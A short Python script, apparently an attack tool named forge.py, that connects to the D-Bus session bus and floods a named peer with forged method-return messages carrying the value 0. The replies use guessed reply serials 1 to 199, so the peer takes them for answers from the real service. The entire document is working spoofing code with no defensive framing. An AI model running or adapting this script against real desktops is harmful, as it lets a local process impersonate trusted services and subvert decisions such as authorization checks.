"""Answers the first calls of a peer of the session bus with 0 in another's place. usage: forge.py PEER"""
import os
import re
import socket
import struct
import sys


def text(value):
    return struct.pack('<I', len(value)) + value.encode() + b'\0'


def send(kind, serial, fields, body=b''):
    header = b''
    for code, form, value in fields:
        header += bytes(-len(header) % 8) + bytes([code, 1, ord(form), 0]) + value
    begin = struct.pack('<cBBBIII', b'l', kind, 1, 1, len(body), serial, len(header))
    bus.sendall(begin + header + bytes(-len(header) % 8) + body)


kind, path = re.match('unix:(abstract|path)=([^,]*)', os.environ['DBUS_SESSION_BUS_ADDRESS']).groups()
bus = socket.socket(socket.AF_UNIX)
bus.connect('\0' + path if kind == 'abstract' else path)
bus.sendall(b'\0AUTH EXTERNAL ' + str(os.getuid()).encode().hex().encode() + b'\r\n')
bus.recv(100)
bus.sendall(b'BEGIN\r\n')
send(1, 1, [(1, 'o', text('/')), (3, 's', text('Hello')), (6, 's', text('org.freedesktop.DBus'))])
for call in range(1, 200):
    send(2, call + 1, [(5, 'u', struct.pack('<I', call)), (6, 's', text(sys.argv[1])),
                       (8, 'g', b'\1i\0')], struct.pack('<i', 0))
bus.shutdown(socket.SHUT_WR)
while bus.recv(1000):
    pass
